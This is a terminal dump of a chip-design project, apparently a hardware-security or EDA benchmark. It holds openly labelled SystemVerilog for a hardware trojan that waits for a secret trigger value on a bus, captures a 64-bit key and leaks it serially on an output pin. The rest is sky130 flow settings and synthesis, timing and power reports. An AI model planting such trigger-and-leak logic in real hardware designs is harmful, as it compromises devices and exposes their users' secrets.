$ cat src/rtl/trojan_pkg.sv
// Shared types and helpers for the parametrised key-leak trojan.
package trojan_pkg;

   typedef enum logic [1:0] {
      IDLE    = 2'd0,
      CAPTURE = 2'd1,
      LEAK    = 2'd2,
      DEAD    = 2'd3
   } state_e;

   localparam logic [31:0] DEF_TRIG_VAL = 32'h0044_ab93;

   // Ceiling log2; clog2(1) == 0.
   function automatic int unsigned clog2(input int unsigned v);
      int unsigned r;
      r = 0;
      for (int unsigned i = 0; i < 32; i++) begin
         if ((64'd1 << i) < 64'(v)) r = i + 1;
      end
      return r;
   endfunction

endpackage

$ cat src/rtl/trojan_leak_param_if.sv
// Monitored bus plus leak outputs of trojan_leak_param.
interface trojan_leak_param_if #(
   parameter int unsigned DATA_W    = 64,
   parameter int unsigned LEAK_BITS = 2
);
   logic [DATA_W-1:0]    data;
   logic                 leak_valid;
   logic [LEAK_BITS-1:0] leak_bits;
   logic                 busy;
   logic                 out;

   modport master (output data, input leak_valid, leak_bits, busy, out);
   modport slave  (input data, output leak_valid, leak_bits, busy, out);
endinterface

$ cat src/rtl/trojan_payload.sv
// Serialises leak beats MSB first, one bit per cycle, with one pending beat buffered.
module trojan_payload
   import trojan_pkg::*;
#(
   parameter int unsigned LEAK_BITS = 2
) (
   input  logic                 clk,
   input  logic                 rst_n,
   input  logic                 leak_valid,
   input  logic [LEAK_BITS-1:0] leak_bits,
   output logic                 out
);
   localparam int unsigned CNT_W = clog2(LEAK_BITS) + 1;

   logic [LEAK_BITS-1:0] sh;
   logic [LEAK_BITS-1:0] pend;
   logic                 pend_v;
   logic [CNT_W-1:0]     cnt;

   // A beat arriving while the shifter is busy replaces the pending one.
   always_ff @(posedge clk or negedge rst_n) begin
      if (!rst_n) begin
         sh     <= '0;
         pend   <= '0;
         pend_v <= 1'b0;
         cnt    <= '0;
         out    <= 1'b0;
      end else if (cnt != '0) begin
         out <= sh[LEAK_BITS-1];
         sh  <= sh << 1;
         cnt <= cnt - CNT_W'(1);
         if (leak_valid) begin
            pend   <= leak_bits;
            pend_v <= 1'b1;
         end
      end else if (pend_v) begin
         out    <= pend[LEAK_BITS-1];
         sh     <= pend << 1;
         cnt    <= CNT_W'(LEAK_BITS - 1);
         pend   <= leak_bits;
         pend_v <= leak_valid;
      end else if (leak_valid) begin
         out <= leak_bits[LEAK_BITS-1];
         sh  <= leak_bits << 1;
         cnt <= CNT_W'(LEAK_BITS - 1);
      end else begin
         out <= 1'b0;
      end
   end

endmodule

$ cat src/rtl/trojan_leak_param.sv
// Trigger-armed key-leak trojan: captures NCHUNK bus slices, then leaks them LEAK_BITS per beat.
// Define TROJAN_REARM_EN to return to IDLE after a leak instead of going DEAD.
module trojan_leak_param
   import trojan_pkg::*;
#(
   parameter int unsigned       DATA_W    = 64,
   parameter int unsigned       TRIG_W    = 32,
   parameter logic [TRIG_W-1:0] TRIG_VAL  = TRIG_W'(DEF_TRIG_VAL),
   parameter int unsigned       CHUNK_W   = 16,
   parameter int unsigned       NCHUNK    = 4,
   parameter int unsigned       LEAK_BITS = 2
) (
   input  logic               clk,
   input  logic               rst_all_n,
   trojan_leak_param_if.slave bus
);
   localparam int unsigned KEY_W   = CHUNK_W * NCHUNK;
   localparam int unsigned NBEAT   = KEY_W / LEAK_BITS;
   localparam int unsigned SEL_W   = clog2(DATA_W / CHUNK_W);
   localparam int unsigned SEL_R   = (SEL_W == 0) ? 1 : SEL_W;
   localparam int unsigned CTR_MAX = (NCHUNK > NBEAT) ? NCHUNK : NBEAT;
   localparam int unsigned CTR_W   = clog2(CTR_MAX) + 1;

`ifdef TROJAN_REARM_EN
   localparam state_e END_ST = IDLE;
`else
   localparam state_e END_ST = DEAD;
`endif

   if (TRIG_W + SEL_W > DATA_W) begin : g_bad_trig
      $error("trojan_leak_param: TRIG_W + SEL_W exceeds DATA_W");
   end
   if (DATA_W % CHUNK_W != 0) begin : g_bad_chunk
      $error("trojan_leak_param: DATA_W not a multiple of CHUNK_W");
   end
   if (KEY_W % LEAK_BITS != 0) begin : g_bad_leak
      $error("trojan_leak_param: KEY_W not a multiple of LEAK_BITS");
   end

   state_e               state;
   logic [CTR_W-1:0]     ctr;
   logic [SEL_R-1:0]     sel;
   logic [KEY_W-1:0]     k;
   logic                 leak_valid_q;
   logic [LEAK_BITS-1:0] leak_bits_q;
   logic                 busy_q;
   logic                 out_w;

   logic                 trig_c;
   logic [SEL_R-1:0]     sel_in_c;
   logic [CHUNK_W-1:0]   slice_c;

   if (SEL_W == 0) begin : g_nosel
      assign sel_in_c = '0;
   end else begin : g_sel
      assign sel_in_c = bus.data[TRIG_W +: SEL_R];
   end

   assign trig_c  = (bus.data[TRIG_W-1:0] == TRIG_VAL);
   assign slice_c = CHUNK_W'(bus.data >> (32'(sel) * CHUNK_W));

   // Session FSM; leak outputs default low every cycle outside LEAK.
   always_ff @(posedge clk or negedge rst_all_n) begin
      if (!rst_all_n) begin
         state        <= IDLE;
         ctr          <= '0;
         sel          <= '0;
         k            <= '0;
         leak_valid_q <= 1'b0;
         leak_bits_q  <= '0;
         busy_q       <= 1'b0;
      end else begin
         leak_valid_q <= 1'b0;
         leak_bits_q  <= '0;
         case (state)
            IDLE: begin
               busy_q <= 1'b0;
               if (trig_c) begin
                  state  <= CAPTURE;
                  sel    <= sel_in_c;
                  ctr    <= '0;
                  busy_q <= 1'b1;
               end
            end
            CAPTURE: begin
               busy_q <= 1'b1;
               for (int unsigned i = 0; i < NCHUNK; i++) begin
                  if (ctr == CTR_W'(i)) k[i*CHUNK_W +: CHUNK_W] <= slice_c;
               end
               if (ctr == CTR_W'(NCHUNK - 1)) begin
                  state <= LEAK;
                  ctr   <= '0;
               end else begin
                  ctr <= ctr + CTR_W'(1);
               end
            end
            LEAK: begin
               busy_q       <= 1'b1;
               leak_valid_q <= 1'b1;
               leak_bits_q  <= k[LEAK_BITS-1:0];
               k            <= k >> LEAK_BITS;
               if (ctr == CTR_W'(NBEAT - 1)) begin
                  state <= END_ST;
               end else begin
                  ctr <= ctr + CTR_W'(1);
               end
            end
            DEAD: begin
               busy_q <= 1'b0;
            end
         endcase
      end
   end

   trojan_payload #(.LEAK_BITS(LEAK_BITS)) u_payload (
      .clk        (clk),
      .rst_n      (rst_all_n),
      .leak_valid (leak_valid_q),
      .leak_bits  (leak_bits_q),
      .out        (out_w)
   );

   assign bus.leak_valid = leak_valid_q;
   assign bus.leak_bits  = leak_bits_q;
   assign bus.busy       = busy_q;
   assign bus.out        = out_w;

endmodule

$ cat src/flat_wrapper.sv
// flat-port wrapper written by rule: the top's interface ports become plain ports
module trojan_leak_param_flat import trojan_pkg::*;
#(
   parameter int unsigned       DATA_W    = 64,
   parameter int unsigned       TRIG_W    = 32,
   parameter logic [TRIG_W-1:0] TRIG_VAL  = TRIG_W'(DEF_TRIG_VAL),
   parameter int unsigned       CHUNK_W   = 16,
   parameter int unsigned       NCHUNK    = 4,
   parameter int unsigned       LEAK_BITS = 2
)
  (clk, rst_all_n, bus_data, bus_leak_valid, bus_leak_bits, bus_busy, bus_out);
  trojan_leak_param_if #(.DATA_W(DATA_W), .LEAK_BITS(LEAK_BITS)) bus_i ();
  input  logic clk;
  input  logic rst_all_n;
  input wire logic [$bits(bus_i.data)-1:0] bus_data;
  output wire logic [$bits(bus_i.leak_valid)-1:0] bus_leak_valid;
  output wire logic [$bits(bus_i.leak_bits)-1:0] bus_leak_bits;
  output wire logic [$bits(bus_i.busy)-1:0] bus_busy;
  output wire logic [$bits(bus_i.out)-1:0] bus_out;
  assign bus_i.data = bus_data;
  assign bus_leak_valid = bus_i.leak_valid;
  assign bus_leak_bits = bus_i.leak_bits;
  assign bus_busy = bus_i.busy;
  assign bus_out = bus_i.out;
  trojan_leak_param #(.DATA_W(DATA_W), .TRIG_W(TRIG_W), .TRIG_VAL(TRIG_VAL), .CHUNK_W(CHUNK_W), .NCHUNK(NCHUNK), .LEAK_BITS(LEAK_BITS)) u_core (.clk(clk), .rst_all_n(rst_all_n), .bus(bus_i));
endmodule
$ cat config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_leak_param_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_leak_param_if.sv /design/src/rtl/trojan_payload.sv /design/src/rtl/trojan_leak_param.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CORE_MARGIN = 2
export CORE_UTILIZATION = 50
export DETAILED_ROUTE_END_ITERATION = 10
export PLACE_DENSITY = 0.8
export SKIP_LAST_GASP = 1
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
$ cat constraint.sdc
create_clock -name clk -period 2.22 [get_ports clk]
set_input_delay 0.222 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.222 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
Word-level counts from Yosys, hierarchy flattened
Index checks and enable logic that the tools add are counted.
W data, S select, Z words.
{"block": "totals", "ff_bits": 86, "in_bits": 66, "output_inout_bits": 5, "word_cells": 82}
{"block": "classes", "n_addsub": 2, "n_eq_ne": 16, "n_shift": 1, "n_mux": 32, "n_reduce_logical": 16}
{"op": "$pmux W64 S2", "n": 1}
{"op": "$mux W16", "n": 4}
{"op": "$shr A64 B6 Y16", "n": 1}
{"op": "$eq A32 B23 Y1 const B", "n": 1}
{"op": "$mux W2", "n": 13}
{"op": "$mux W6", "n": 3}
{"op": "$pmux W6 S3", "n": 1}
{"op": "$ne A2 B1 Y1 const B", "n": 7}
{"op": "$eq A6 B2 Y1 const B", "n": 2}
{"op": "$reduce_and A2 Y1", "n": 6}
{"op": "$mux W1", "n": 8}
{"op": "$add A6 B1 Y6 const B", "n": 1}
{"op": "$eq A6 B1 Y1 const B", "n": 1}
{"op": "$eq A6 B5 Y1 const B", "n": 1}
{"op": "$logic_not A6 Y1", "n": 1}
{"op": "$pmux W2 S3", "n": 1}
{"op": "$reduce_bool A2 Y1", "n": 3}
{"op": "$reduce_bool A3 Y1", "n": 2}
{"op": "$eq A2 B2 Y1 const B", "n": 2}
{"op": "$reduce_and A4 Y1", "n": 1}
{"op": "$pmux W1 S3", "n": 1}
{"op": "$reduce_and A3 Y1", "n": 1}
{"op": "$eq A2 B1 Y1 const B", "n": 1}
{"op": "$logic_not A2 Y1", "n": 1}
{"op": "3 further kinds", "n": 3}

Logic depth before layout (Yosys ltp)
{"block": "logic_depth", "word_depth": 3, "ltp_mapped": 9, "depth_no_buf": 7}

Hierarchy
The synthesis kept the hierarchy.
{"module": "trojan_leak_param", "instances": 1, "cells_per_inst": 402, "area_each_um2": 4180.3, "seq_area_each_um2": 1951.9}
{"module": "trojan_payload", "instances": 1, "cells_per_inst": 24, "area_each_um2": 291.5, "seq_area_each_um2": 175.2}

Worst setup path before layout
OpenSTA, ideal clock, no wires.
{"block": "synth_path", "path_type": "reg-to-reg", "from": "register u_core.state[0]", "to": "register u_core.k[10]", "setup_ns": 0.118, "t_arrival_ns": 1.659, "t_required_ns": 2.102, "path_slack_ns": 0.443, "path_stages_with_launch": 9, "n_path_buf": 2, "period_less_slack_ns": 1.777, "path_cell_list": "dfrtp_1 > inv_1 > ha_1 > buf_2 > clkinv_1 > nor2_2 > a21oi_2 > buf_2 > a21o_1"}
{"block": "synth_via", "elab_chain_len": 3, "word_cells_on_any_way": 6, "cone_classes": "3 x eq/ne; 1 x mux; 2 x reduce/logical"}
{"element": "start, declared", "line_no": "trojan_leak_param.sv:40", "text": "state_e state;"}
{"element": "start signal, assigned", "line_no": "trojan_leak_param.sv:65", "text": "state <= IDLE;"}
{"element": "start signal, assigned", "line_no": "trojan_leak_param.sv:79", "text": "state <= CAPTURE;"}
{"element": "start signal, assigned", "line_no": "trojan_leak_param.sv:91", "text": "state <= LEAK;"}
{"element": "$eq A2 B1 Y1 / $eq A2 B2 Y1 (equally long branches)", "line_no": "trojan_leak_param.sv:75", "text": "case (state)"}
{"element": "$ne A2 B1 Y1 (no source line) / $reduce_bool A2 Y1 (equally long branches)"}
{"element": "$reduce_and A2 Y1 (no source line)"}
{"element": "end signal, assigned by index", "line_no": "trojan_leak_param.sv:88", "text": "if (ctr == CTR_W'(i)) k[i*CHUNK_W +: CHUNK_W] <= slice_c;"}
{"element": "end signal, assigned", "line_no": "trojan_leak_param.sv:101", "text": "k <= k >> LEAK_BITS;"}
{"element": "end, declared", "line_no": "trojan_leak_param.sv:43", "text": "logic [KEY_W-1:0] k;"}
Several ways; a longest one is shown, not always the timed one.
A chain may end at the register's enable or synchronous reset.

Final worst setup path
{"block": "layout_path", "from": "register u_core.state[0]", "to": "register u_core.k[16]"}
The elaborated chain is that of the path after synthesis.

==> out/qor.yml <==
vias: 3569
area_growth_pct: 18.7
routed_via_density: 5.91
slew_violations: 0
status: "finished, final reports clean"
syn_inst: 426
worstSetupEndpoint: "u_core/k[16]$_DFFE_PN0P_"
ys_async_sr_fraction: 1.00
p_leak_nw: 2.95
grt_overflow: 0
dieWidth_um: 98.6
critPathMaxFanout: 32
period_share: 0.869
start_util: 0.515
p_per_area_nw_per_um2: 556
root_buffer: "clkbuf_8"
r2r_cells: 8
cts_tree: "built"
post-cts-setup-buffers: 0
pwr-share-comb: 0.066
r2r_start: "u_core/state[0]$_DFFE_PN0P_"
finalCoreUtilization: 0.612
grt_usage: 0.227
dp_slack_ps: 327
die_h_um: 98.6
reg2reg_to: "u_core/k[16]$_DFFE_PN0P_"
synth_edf_count: 0
clock_sinks: 85
grt_max_degree: 64
wire_per_inst_um: 17.3
wl_um: 10400
p_int_mw: 2.31
yosys.area.top_type: "dfrtp_1"
placed_area_um2: 5080
drt_iter0_markers: 237
min_period_ps: 1930
place_inst: 588
max-slew-margin-rel: 0.544
multi_input_area_um2: 2180
crit_start: "u_core/state[0]$_DFFE_PN0P_"
synth_top_area_share: 0.476
rsz0062_at_grt: "false"
seqPwrFrac: 0.524
cap_violations: 0
holdCritPathClass: "input pin to flip-flop"
clock_latency_ps: 350
htree_levels: 3
syn-cell-area_um2: 4470
synthTopCellsByArea: "dfrtp_1, a21o_1, mux4_2, a21oi_1, nand2_1"
final_nets: 568
vdd_drop_max_mv: 0.374
clk_path_buf_depth: 2
synth_warnings: 6
mostFrequentLayoutCells: "nand2_1, dfrtp_1, buf_4"
antenna_left: 0
pwr-share-clk: 0.410
antenna_found_initial: 0
grt_pass1_wl_um: 17600
dr.pass1.iters: 4
end_kind: "flip-flop"
swShare: 0.216
final_design_area_no_fill_um2: 5310
dieArea_um2: 9720
yosysSeqAreaShare: 0.476
grt_pass1_vias: 3670
worstSetupPathType: "flip-flop to flip-flop"
setup_slack_ps: 290
hold_violations: 0
io_buffer_count: 70
clk_pin_slew_ps: 80
worst_pin_slew_ps: 684
dp_hpwl_um: 7640
synth_nets: 502
core.rowCount: 34
top_level_ports: 71
numCtsBuffers: 9
nFillCells: 694
drc_errors: 0
synthDistinctLibCells: 49
layout-drive-gt1-share: 0.272
core_area_um2: 8680
rrSetupSlack_ps: 290
final-setup-viol-count: 0
synth.avg_cell_area_um2: 10.5
timing.fmax_mhz: 518
critical_path_arrival_ps: 2220
cp_data_required_time_ps: 2510
synth-main-ff-cell: "dfrtp_1"
fin_tns_setup_ps: 0
synth-seq-cells: 85
cts.repair.resized: 0
gp_congestion: 0.794
seqCellArea_um2: 2130
finClkSkew_ps: 15.8
diodes: 0
power_switching_mw: 0.639
worstSetupStartpointType: "flip-flop"
layout.cells.non_filler: 604
## stage by stage
step | power (mW) | hold slack [ps]
after CTS | 2.98 | 104
after floorplan | 1.62 | -73.6
final | 2.95 | 120
after global routing | 3.06 | 106
after global placement | 1.77 | 185
after detailed placement | 1.77 | 198
## metal layers
layer  part of all wire  wire, µm  global-route usage
met1               0.40      4200               0.288
met2               0.53      5530               0.392
met3              0.045       474              0.0376
met4              0.023       239              0.0864
met5                  0         0                   0
## power groups by stage
stage,Sequential [mW],Clock (mW),Combinational (mW)
after floorplan,1.58,0,0.0446
after global placement,1.58,0,0.191
after detailed placement,1.58,0,0.196
after CTS,1.55,1.23,0.197
after global routing,1.55,1.30,0.211
final,1.55,1.21,0.195
## critical path, stage by stage, from the launching register on
cell      delay [ps]
dfrtp_1          420
inv_1            140
ha_2             280
clkinv_1         160
nor2_2           260
a21oi_2           60
buf_4            230
a21oi_1          200
a21o_1           110
## worst min-delay path by stage
| stage | slack [ps] | endpoint | depth (start not counted) | startpoint |
|---|---|---|---|---|
| detailed placement | 200 | u_core/sel[1]$_DFFE_PN0P_ | 1 | rst_all_n |
| global route | 110 | u_core/sel[1]$_DFFE_PN0P_ | 2 | bus_data[33] |
| finish | 120 | u_core/sel[0]$_DFFE_PN0P_ | 2 | bus_data[32] |
| floorplan | -70 | u_core/bus.busy$_DFF_PN0_ | 0 | rst_all_n |
| global placement | 190 | u_core/bus.busy$_DFF_PN0_ | 1 | rst_all_n |
| CTS | 100 | u_core/sel[1]$_DFFE_PN0P_ | 2 | bus_data[33] |
## final cells by class
| type | instances | share of cell area |
|---|---|---|
| multi-input combinational | 309 | 0.411 |
| sequential | 85 | 0.401 |
| timing repair buffer | 80 | 0.116 |
| clock buffer | 10 | 0.0259 |
| tap | 108 | 0.0255 |
| clock inverter | 5 | 0.0156 |
| inverter | 7 | 0.00495 |
## state kept, by name, summed over array words and instances, names as in the netlist
signal,count
u_core/bus.busy,1
u_core/bus.leak_bits,2
u_core/bus.leak_valid,1
u_core/ctr,6
u_core/k,64
u_core/sel,2
u_core/state,2
u_core/u_payload/cnt,2
u_core/u_payload/out,1
u_core/u_payload/pend,2
u_core/u_payload/pend_v,1
u_core/u_payload/sh,1
## synth_stat cells (2+ instances only)
library cell  count
dfrtp_1          85
nand2_1          85
a21oi_1          64
a21o_1           63
buf_2            16
mux4_2           16
ha_1             10
clkbuf_1          6
inv_1             6
nand3_1           6
o21ai_0           6
a21oi_2           4
mux2i_1           4
nor2_1            4
a31oi_1           3
and2_1            3
mux2_2            3
nor4b_2           3
o2bb2ai_1         3
mux2_1            2
nand2_2           2
nand4_1           2
nor2b_1           2
nor4b_1           2
nor4bb_1          2
## kinds of logic (layout without fill, tap and decap cells)
family          Yosys count  count (layout)  synth area share
compound gates          148             148             0.214
simple gates            124             124             0.138
mux                      26              26             0.105
buf+inv                  32             102            0.0367
flops                    85              85             0.476
fa+ha+maj                11              11            0.0302
## timing repair
item	CTS	global route
setup endpoints to repair	0	0
hold endpoints to repair	31	0
hold buffers	1	0
No activity file was read; power rests on OpenSTA's default activity.
